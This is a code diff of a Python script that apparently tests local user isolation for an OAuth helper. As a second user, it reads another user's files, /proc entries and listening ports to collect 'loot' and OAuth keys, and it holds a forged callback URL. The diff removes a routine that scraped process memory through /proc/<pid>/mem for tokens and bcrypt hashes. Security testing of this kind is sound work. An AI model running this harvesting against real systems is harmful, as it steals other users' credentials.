@@ -20,7 +20,6 @@ from signal import SIGKILL
 OF_A_PROCESS = ("environ", "maps", "mem", "auxv", "io", "stack", "syscall", "fd", "map_files", "cwd", "exe")
 """What the system shows of a process to its owner only."""
 KEY = re.compile(r"(?:127\.0\.0\.1:(\d+)/\w+\?|\b)k=([\w-]{22,})")
-IN_MEMORY = re.compile(rb"k=[\w-]{43}|(?:state|code)=[\w%$./-]{16,120}|\$2a\$10\$[\w./]{53}|oauth-helper-\d+=[\w-]{43}")
 LONGEST = 1 << 16
 FOREIGN = "https://console.example/servicestage/oauth?repo_type=github&code=evil-code&state=%242a%2410%24" + "e" * 53
 DENIAL = "error=access_denied&error_description=no"
@@ -29,24 +28,17 @@ NO_ANSWER = "(no answer)"
 
 @dataclass
 class Task:
-    what: str
-    """``look``; ``attack``: look, then try."""
-    owner: int
-    """The first user's number."""
-    places: list[str]
-    """The first user's folders."""
-    shared: list[str]
-    """Folders that everyone can write."""
-    patience: float = 10
-    """Seconds for an answer."""
+    what: str  # ``look``; ``attack``: look, then try
+    owner: int  # the first user's number
+    places: list[str]  # the first user's folders
+    shared: list[str]  # folders that everyone can write
+    patience: float = 10  # seconds for an answer
 
 
 @dataclass
 class Report:
-    loot: list[str] = field(default_factory=list)
-    """All that was read."""
-    opened: list[str] = field(default_factory=list)
-    """Files, and things in /proc, that should be open to the first user only."""
+    loot: list[str] = field(default_factory=list)  # all that was read
+    opened: list[str] = field(default_factory=list)  # files that should be open to the first user only
     refused: int = 0
     keys: list[str] = field(default_factory=list)
     ports: list[int] = field(default_factory=list)
@@ -74,21 +66,19 @@ def look(task: Task, report: Report) -> None:
     for entry in (entry for shared in task.shared for entry in Path(shared).iterdir()):
         with suppress(OSError):
             places += [entry] if entry.lstat().st_uid == task.owner else []
+    refusals: list[OSError] = []
     for place in places:
         if place.is_symlink() or not place.is_dir():
             look_at(place, report)
-        for folder, _, names in os.walk(place, onerror=lambda _error: count_refusal(report)):
+        for folder, _, names in os.walk(place, onerror=refusals.append):
             for name in names:
                 look_at(Path(folder) / name, report)
+    report.refused += len(refusals)
     # Of /proc/net/tcp: local address, remote address, state (0A: listening), …, user.
     rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
     report.ports = [int(r[1].partition(":")[2], 16) for r in rows if r[3] == "0A" and int(r[7]) == task.owner]
     found = KEY.findall("\n".join(report.loot))
     report.keys = sorted({key for port, key in found if not port or int(port) in report.ports})
-
-
-def count_refusal(report: Report) -> None:
-    report.refused += 1
 
 
 def look_at(path: Path, report: Report) -> None:
@@ -110,26 +100,12 @@ def content(path: Path) -> str:
     if path.is_dir():
         return "\n".join(f"{entry} {entry.readlink()}" for entry in path.iterdir())
     if path.name == "mem" and path.parts[1] == "proc":
-        return memory(path)
+        path.open("rb").close()  # to open it is what the system allows or not
+        return ""
     if not path.is_file():
         raise FileNotFoundError(path)  # a socket, or a FIFO that would block us
     with path.open("rb") as file:
         return file.read(LONGEST).decode(errors="replace").replace("\0", " ")
-
-
-def memory(path: Path) -> str:
-    """Return what is worth taking from the writable memory of our Python processes; others are only opened."""
-    found: set[bytes] = set()
-    with path.open("rb", buffering=0) as file:
-        if b"oauth_helper" not in path.with_name("cmdline").read_bytes():
-            return ""
-        for line in path.with_name("maps").read_text().splitlines():
-            begin, end = (int(number, 16) for number in line.split()[0].split("-"))
-            if " rw-p " in line and end - begin < 1 << 26:
-                with suppress(OSError, OverflowError):
-                    file.seek(begin)
-                    found |= set(IN_MEMORY.findall(file.read(end - begin)))
-    return "\n".join(sorted(match.decode() for match in found))
 
 
 def attack(task: Task, report: Report) -> None:
